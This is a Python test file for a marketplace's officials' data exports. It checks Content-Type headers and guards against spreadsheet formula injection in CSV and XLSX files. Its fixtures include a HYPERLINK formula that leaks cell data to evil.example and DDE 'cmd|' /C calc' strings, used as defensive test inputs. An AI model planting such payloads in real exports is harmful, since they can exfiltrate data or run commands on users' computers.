"""The officials' exports: one Content-Type each, and never a formula from any source (a filter in the URL, a
village's name or commune, a shop's name), in CSV and XLSX alike (``core.spreadsheet.safe_cell``)."""
from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from marketplace.extensions import db
from tests.factories import make_product, make_shop, make_village
from tests.officials.helpers import AS_OF, LONG

EXPORTS = {
    "/officials/export/indicators.csv": "text/csv; charset=utf-8",
    "/officials/export/villages.csv": "text/csv; charset=utf-8",
    "/officials/export/indicators.xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "/officials/export/villages.xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "/officials/export/indicators.zip": "application/zip",
    "/officials/export/villages.zip": "application/zip",
}
PREFIXES = ("=", "+", "-", "@", "\t", "\r")
PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


@pytest.fixture
def app_overrides():
    return {"STATS_AS_OF": AS_OF}


def xlsx_cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def assert_no_formula(data: bytes) -> list:
    cells = xlsx_cells(data)
    formulas = [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert not formulas
    return cells


def test_csv_holds_data_rows_only_and_the_zip_adds_the_readme(app, client, login, official):
    login(client, official)
    for table in ("indicators", "villages"):
        text = client.get(f"/officials/export/{table}.csv", query_string={"commune": "xã Bát Tràng"}).data
        rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
        assert rows and all(len(row) == len(rows[0]) for row in rows), table  # a header and data rows, no notes
        bundle = zipfile.ZipFile(io.BytesIO(client.get(f"/officials/export/{table}.zip",
                                                       query_string={"commune": "xã Bát Tràng"}).data))
        csv_name = next(n for n in bundle.namelist() if n.endswith(".csv"))
        assert bundle.read(csv_name) == text
        readme = bundle.read("README.txt").decode("utf-8")
        assert "Lọc commune: xã Bát Tràng" in readme and "production_growth" in readme


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def test_every_export_has_one_content_type(app, client, login, official):
    login(client, official)
    for url, content_type in EXPORTS.items():
        response = client.get(url)
        assert response.status_code == 200, url
        assert response.headers["Content-Type"] == content_type, url
        assert response.headers["Content-Type"].count("charset") <= 1
        assert response.headers["Content-Disposition"].startswith("attachment;")


@pytest.mark.parametrize("prefix", PREFIXES, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_a_filter_from_the_url_is_never_a_formula(app, client, login, official, prefix):
    login(client, official)
    commune = prefix + PAYLOAD
    for url in (u for u in EXPORTS if not u.endswith(".zip")):
        response = client.get(url, query_string={"commune": commune, "category": "ceramics"})
        if prefix in "\t\r":
            # control characters in a query string are refused before any view (core/inputs.py)
            assert response.status_code == 400, url
            continue
        assert response.status_code == 200, url
        if url.endswith(".xlsx"):
            cells = assert_no_formula(response.data)
            echoed = [c.value for c in cells if isinstance(c.value, str) and PAYLOAD in c.value]
        else:
            # a CSV holds data rows only: the filter is written in the ZIP's README, not in the CSV
            assert not [c for c in csv_cells(response.data) if PAYLOAD in c], url
            continue
        assert echoed == ["'" + commune], url  # the filter is shown, as text


@pytest.mark.parametrize("prefix", PREFIXES, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_names_from_the_database_are_never_formulas(app, client, login, official, prefix):
    village = make_village(slug="lang-x", name_vi=prefix + PAYLOAD, commune_vi=prefix + "cmd|' /C calc'!A0")
    shop = make_shop(village=village, slug="xuong-x", name=prefix + "SUM(1+1)*cmd|' /C calc'!A0")
    make_product(shop=shop, images=1, description_vi=LONG)
    db.session.commit()
    login(client, official)
    for url in ("/officials/export/villages.xlsx", "/officials/export/villages.csv"):
        response = client.get(url)
        assert response.status_code == 200, url
        expected = ["'" + village.name_vi, "'" + village.commune_vi]
        if url.endswith(".xlsx"):
            values = [c.value for c in assert_no_formula(response.data)]
            expected = [v.replace("\r", "\n") for v in expected]  # XML reads a lone CR back as LF
        else:
            values = csv_cells(response.data)
        risky = [v for v in values if isinstance(v, str) and ("calc" in v or PAYLOAD in v)]
        assert sorted(risky) == sorted(expected), url
        assert not any(isinstance(v, str) and v.startswith(PREFIXES) for v in values), url
